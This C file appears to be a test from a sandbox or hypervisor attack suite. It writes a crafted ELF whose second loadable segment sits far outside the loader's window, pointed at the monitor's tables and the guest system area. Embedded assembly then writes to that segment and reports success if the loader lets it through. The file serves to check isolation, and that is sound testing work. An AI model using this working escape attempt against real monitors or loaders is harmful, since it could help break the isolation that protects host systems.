// A position-independent program with a second segment (p_filesz 0) so far up that the place the loader gives
// the program carries it out of the window.  Its code waits a moment for the watcher on the host, writes to
// that segment and ends with the status of a win.
#include "attack.h"
#include <elf.h>

__asm__(".pushsection .rodata\n"
        ".balign 8\n"
        "evil:  lea evil(%rip), %rbx\n"
        "       sub $0x1000, %rbx\n"
        "       add evil_far(%rip), %rbx\n"
        "       sub $16, %rsp\n"
        "       movq $0, (%rsp)\n"
        "       movq $50000000, 8(%rsp)\n"
        "       mov %rsp, %rdi\n"
        "       xor %esi, %esi\n"
        "       mov $35, %eax\n" // nanosleep
        "       syscall\n"
        "       movb $1, (%rbx)\n"
        "       mov $42, %edi\n"
        "       mov $231, %eax\n" // exit_group
        "       syscall\n"
        ".balign 8\n"
        "evil_far: .quad 0\n"
        "evil_end:\n"
        ".popsection\n");
extern const char evil[], evil_far[], evil_end[];

static void write_program(const char *path, uint64_t far, uint64_t size) {
    char page[8192] = {0};
    Elf64_Ehdr header = {.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT},
                         .e_type = ET_DYN,
                         .e_machine = EM_X86_64,
                         .e_version = EV_CURRENT,
                         .e_entry = 0x1000,
                         .e_phoff = sizeof(Elf64_Ehdr),
                         .e_ehsize = sizeof(Elf64_Ehdr),
                         .e_phentsize = sizeof(Elf64_Phdr),
                         .e_phnum = 2};
    Elf64_Phdr segments[2] = {
        {.p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_filesz = 8192, .p_memsz = 8192, .p_align = 4096},
        {.p_type = PT_LOAD, .p_flags = PF_R | PF_W, .p_vaddr = far, .p_memsz = size, .p_align = 4096}};
    memcpy(page, &header, sizeof header);
    memcpy(page + sizeof header, segments, sizeof segments);
    memcpy(page + 0x1000, evil, (size_t)(evil_end - evil));
    memcpy(page + 0x1000 + (evil_far - evil), &far, 8);
    unlink(path);
    int fd = open(path, O_CREAT | O_WRONLY | O_EXCL, 0755);
    if (fd < 0 || write(fd, page, sizeof page) != sizeof page)
        attack_broken("writing the program");
    close(fd);
}

static void run(void *path) {
    execl(path, "evil", NULL);
    _exit(1); // refused: as it should be
}

int main(void) {
    // The loader's base lies in [0x2aaa_0000_0000, 0x2baa_0000_0000).
    static const uint64_t far[] = {
        0x3fd600000000, // the gap behind the window
        0x43d600000000, // the monitor's tables
        0x41d600000000, // where the guest has the system area
        0x3f5600000000, // across the window's end, with the size below
    };
    const char *path = "/tmp/elf_segment_beyond";
    for (unsigned i = 0; i < sizeof far / sizeof *far && !attack_over(); i++)
        for (int n = 0; n < 3; n++) {
            write_program(path, far[i], i == 3 ? 1UL << 40 : 4096);
            if (attack_child_won(attack_child(run, (void *)path)))
                attack_won("a segment at %#lx above the program's base was written", (long)far[i]);
        }
    unlink(path);
    attack_lost();
}
